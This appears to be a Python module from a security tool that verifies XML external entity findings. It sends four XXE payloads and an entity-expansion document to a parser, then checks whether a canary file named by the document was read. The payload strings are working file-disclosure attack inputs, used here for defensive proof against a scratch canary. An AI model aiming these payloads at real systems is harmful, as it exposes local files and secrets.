"""How external entities show themselves: the parser reads a file that the document names."""

from collections.abc import Mapping

from countermine.core.findings import Finding
from countermine.core.knowledge import WitnessMaker
from countermine.core.spans import TreePath
from countermine.core.witnesses import CANARY, Observation, Witness
from countermine.prove.drive.drive import SCRATCH
from countermine.prove.drive.maker import PlannedMaker
from countermine.prove.drive.making import Plan
from countermine.prove.drive.paths import reached_paths
from countermine.prove.drive.payloads import Payload
from countermine.prove.drive.silence import place
from countermine.prove.drive.xml_documents import (
    GROWING_DOCUMENT,
    HEAD,
    PLAIN_DOCUMENT,
    grown,
)

_FILE = "outside/secret.txt"
_READ = f"{CANARY}-secret"
_EXTERNAL = (
    Payload(
        name="external-entity",
        text=f'{HEAD}<!DOCTYPE r [<!ENTITY e SYSTEM "file://{{base}}/{_FILE}">]><r><i>&e;</i></r>',
        file_name="input.xml",
    ),
    Payload(
        name="external-entity-path",
        text=f'{HEAD}<!DOCTYPE r [<!ENTITY e SYSTEM "{{base}}/{_FILE}">]><r><i>&e;</i></r>',
        file_name="input.xml",
    ),
    Payload(
        name="parameter-entity",
        text=f'{HEAD}<!DOCTYPE r [<!ENTITY % e SYSTEM "file://{{base}}/{_FILE}"> %e;]><r/>',
        file_name="input.xml",
    ),
    Payload(
        name="external-subset",
        text=f'{HEAD}<!DOCTYPE r SYSTEM "file://{{base}}/{_FILE}"><r/>',
        file_name="input.xml",
    ),
)
_NEVER_EXTERNAL = ("xml.etree", "minidom", "expatbuilder")
"""Parsers that never read external entities. A claim about them is about growth."""
_SELDOM_EXTERNAL = ("xml.sax", "pulldom")
"""Parsers that read them only if they are told to, since Python 3.7.1; others grow all the same."""


def plan(finding: Finding, _texts: Mapping[TreePath, bytes]) -> Plan:
    """Return documents with the entities that the parser may take."""
    if "lxml" in finding.sink:
        return Plan(
            attacks=(*_EXTERNAL, GROWING_DOCUMENT), controls=(PLAIN_DOCUMENT,), as_file=True
        )
    if any(name in finding.sink for name in _NEVER_EXTERNAL):
        return Plan(attacks=(GROWING_DOCUMENT,), controls=(PLAIN_DOCUMENT,), as_file=True)
    if finding.is_hypothesis and any(name in finding.sink for name in _SELDOM_EXTERNAL):
        # The search looks for parsers that are told to; a claim may mean either.
        return Plan(
            attacks=(*_EXTERNAL, GROWING_DOCUMENT), controls=(PLAIN_DOCUMENT,), as_file=True
        )
    return Plan(attacks=_EXTERNAL, controls=(PLAIN_DOCUMENT,), as_file=True)


def _shown(_witness: Witness, seen: Observation, _benign: Observation) -> str | None:
    secret = f"{SCRATCH}/{_FILE}"
    for event in seen.events:
        if secret in reached_paths(event):
            return f"the parser read {secret}, which the document names, {place(event)}"
        if _READ in (event.get("text") or "") + (event.get("body") or ""):
            return f"the content of {secret} is in what was parsed, {place(event)}"
        if (said := grown(event)) is not None:
            return said
    return None


WITNESS: WitnessMaker = PlannedMaker(plan=plan, shown=_shown)
"""Writes documents with entities, and looks which of them the parser takes."""
